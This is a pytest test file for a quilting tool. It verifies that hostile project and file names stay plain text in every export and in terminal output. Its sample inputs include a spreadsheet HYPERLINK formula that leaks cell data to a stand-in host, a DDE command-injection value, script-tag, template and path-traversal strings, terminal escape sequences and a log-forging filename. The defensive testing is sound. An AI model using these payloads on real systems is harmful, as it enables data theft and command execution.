"""A maker's own words, whatever they are, are words in every output and nothing else.

They come in as the name of a quilt, of its file and of a drawing, and as a reason. What makes a
cell of a table a formula: `=`, `+`, `-`, `@`, tab or null at its beginning. Source: OWASP
Application Security Verification Standard, requirement 1.2.10 (asvs.emil.hemdal.se/1.2.10).
"""

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final
from xml.etree import ElementTree as ET

import ezdxf
import pypdf
import pytest

from stitchpath.cli.make import make_project
from tests.support.command_line import Shell
from tests.support.html_reader import read_html
from tests.support.kinds_of_files import file_of_kind
from tests.support.svg_reader import ELEMENTS

NAMES: Final = {
    "formula": '=HYPERLINK("http://a.example/?"&A1)',
    "sum": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' -C0'!A0",
    "markup": "<script>alert(1)</script><!-- ]]> &lt; \"q\" 'q'",
    "braces": "{{7*7}} ${7*7} %s%n {0} [red]x[/red] `x`",
    "turned": "שלום עולם",
    "folder": "../../up",
}
_FORMATS: Final = ("dst", "exp", "pes", "jef", "vp3", "u01", "xxx", "csv", "dxf", "gcode")
_PROJECT: Final = """
name = {name}
[quilt]
width = 120
length = 150
[[quilt.quilting]]
spacing = 30
[[quilt.quilting]]
layout = "motif"
svg = {drawing}
width = 20
area = {{ rectangle = [10, 10, 60, 40] }}
[batting]
quilting_distance = 20
[machine]
field = [130, 180]
formats = {formats}
[[checks.silence]]
check = "batting-gap"
reason = {name}
"""
_DRAWING: Final = """<svg xmlns="http://www.w3.org/2000/svg"><path d="M0,0h50v50"/></svg>"""
_PATH: Final = re.compile(r"([a-z]+/)?[a-z0-9-]+\.[a-z0-9]+")
_NO_DRAWING: Final = {"a", "script", "foreignObject", "image", "animate", "set"}


def _file_name(name: str) -> str:
    """Return a name as a file can have it."""
    return name.replace("/", "\N{DIVISION SLASH}")


def _write_project(folder: Path, name: str) -> Path:
    drawing = f"{_file_name(name)}.svg"
    (folder / drawing).write_text(_DRAWING)
    project = folder / f"{_file_name(name)}.toml"
    quoted = {"name": name, "drawing": drawing, "formats": _FORMATS}
    written = {key: json.dumps(value, ensure_ascii=False) for key, value in quoted.items()}
    project.write_text(_PROJECT.format(**written), encoding="utf-8")
    return project


def _assert_plain_text(text: str) -> None:
    """Fail where a character controls, other than by ending a line."""
    controls = {c for c in text if unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"}}
    assert controls <= {"\n"}


def _check_csv(data: bytes, _: str) -> None:
    head, *rows = csv.reader(io.StringIO(data.decode("ascii"), newline=""))
    assert head == ["command", "x_mm", "y_mm"]
    assert {row[0] for row in rows} <= {"stitch", "jump", "cut", "pause"}
    assert all(re.fullmatch(r"-?\d+\.\d", cell) for row in rows for cell in row[1:])


def _check_json(data: bytes, name: str) -> None:
    plan = json.loads(data)
    assert plan["name"] == name
    assert name in [finding["silenced"] for finding in plan["findings"]]
    _assert_plain_text(data.decode())


def _check_svg(data: bytes, name: str) -> None:
    root = ET.fromstring(data)  # noqa: S314 - ours
    elements = list(root.iter())
    assert {element.tag.split("}")[1] for element in elements} <= ELEMENTS - _NO_DRAWING
    names = {key for element in elements for key in element.attrib}
    assert not {key for key in names if key.startswith("on") or "href" in key}
    assert name in {"".join(element.itertext()) for element in elements}


def _check_html(data: bytes, name: str) -> None:
    elements = read_html(data.decode())
    assert [one.text for one in elements if one.name == "h1"] == [name]
    assert name in [
        one.text.removesuffix(": booklet") for one in elements if one.name == "title"
    ]
    names = {key for one in elements for key in one.attributes}
    assert not {key for key in names if key.startswith("on")}
    scripts = [one.text for one in elements if one.name == "script"]
    assert not any(one.startswith("alert") for one in scripts)
    links = [one.attributes.get("href") or "" for one in elements if one.name == "a"]
    assert all(link.startswith("#") for link in links)


def _check_pdf(data: bytes, name: str) -> None:
    book = pypdf.PdfReader(io.BytesIO(data))
    assert book.metadata is not None
    assert book.metadata.title == f"{name}: templates"
    assert not {"/OpenAction", "/AA", "/AcroForm"} & book.trailer["/Root"].keys()  # type: ignore[attr-defined]
    assert not any("/Annots" in page for page in book.pages)


def _check_dxf(data: bytes, name: str) -> None:
    read: Any = ezdxf.read(io.StringIO(data.decode()))  # type: ignore[attr-defined]
    assert not read.audit().has_errors
    assert name not in data.decode()


def _check_gcode(data: bytes, _: str) -> None:
    lines = data.decode("ascii").splitlines()
    assert all(re.fullmatch(r"(\(.*\)|([A-Z]-?[\d.]+ ?)+|%)", line) for line in lines), lines


def _check_text(data: bytes, name: str) -> None:
    text = data.decode()
    assert text.splitlines()[0].startswith(f"{name}: what to ")
    _assert_plain_text(text)


def _check_stitches(data: bytes, name: str) -> None:
    assert name.encode() not in data
    assert b"script" not in data


_CHECKS: Final[dict[str, Callable[[bytes, str], None]]] = {
    ".csv": _check_csv,
    ".json": _check_json,
    ".svg": _check_svg,
    ".html": _check_html,
    ".pdf": _check_pdf,
    ".dxf": _check_dxf,
    ".gcode": _check_gcode,
    ".txt": _check_text,
    **dict.fromkeys((".dst", ".exp", ".pes", ".jef", ".vp3", ".u01", ".xxx"), _check_stitches),
}


@pytest.fixture(scope="module", params=NAMES)
def made(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path]:
    """Give a hostile name and the folder made by it."""
    name, folder = NAMES[request.param], tmp_path_factory.mktemp("names")
    out = folder / "out"
    assert make_project(_write_project(folder, name), out, as_json=False) == 0
    return name, out


@pytest.mark.parametrize("suffix", _CHECKS)
def test_words_are_words_in_every_output(made: tuple[str, Path], suffix: str) -> None:
    name, out = made
    files = sorted(out.rglob(f"*{suffix}"))
    assert files
    for file in files:
        _CHECKS[suffix](file.read_bytes(), name)


def test_no_word_becomes_a_path(made: tuple[str, Path]) -> None:
    _, out = made
    files = [path.relative_to(out).as_posix() for path in out.rglob("*") if path.is_file()]
    assert {Path(file).suffix for file in files} == _CHECKS.keys()
    assert all(_PATH.fullmatch(file) for file in files), files


_COMMANDS: Final = ("check", "count", "check --json", "count --json", "preview --out it.svg")


@pytest.mark.parametrize("command", _COMMANDS)
@pytest.mark.parametrize("name", ["\x1b[31m\u202e=1+1", "<b>&amp;\x07\t", "a\u2028b"])
def test_names_of_files_cannot_steer_a_terminal(shell: Shell, name: str, command: str) -> None:
    project = _write_project(shell.folder, "plain")
    project.rename(shell.folder / f"{name}.toml")
    verb, *options = command.split()
    ran = shell.run(" ".join(["stitchpath", verb, f"'{name}.toml'", *options]))
    assert ran.code == 0, ran.err
    _assert_plain_text(ran.err)
    if "--json" in options:
        assert json.loads(ran.out)
    else:
        _assert_plain_text(ran.out)


_FORGED: Final = "a\nerror: forged\n.dst"


@pytest.mark.parametrize(
    "data", [file_of_kind("dst"), file_of_kind("dst")[:600], b"no stitches"]
)
@pytest.mark.parametrize("command", ["inspect .", "inspect . --field 10x10", "count"])
def test_name_of_a_file_adds_no_line(shell: Shell, command: str, data: bytes) -> None:
    """Neither to a table nor to what is said of it."""
    lines = []
    for name in ("a_error__forged_.dst", _FORGED):
        (shell.folder / name).write_bytes(data)
        line = f"stitchpath {command}" + (f" '{name}'" if command == "count" else "")
        ran = shell.run(line)
        assert "\nerror: forged" not in ran.out + ran.err
        lines.append((ran.code, len(ran.out.splitlines()), len(ran.err.splitlines())))
        (shell.folder / name).unlink()
    assert lines[0] == lines[1]
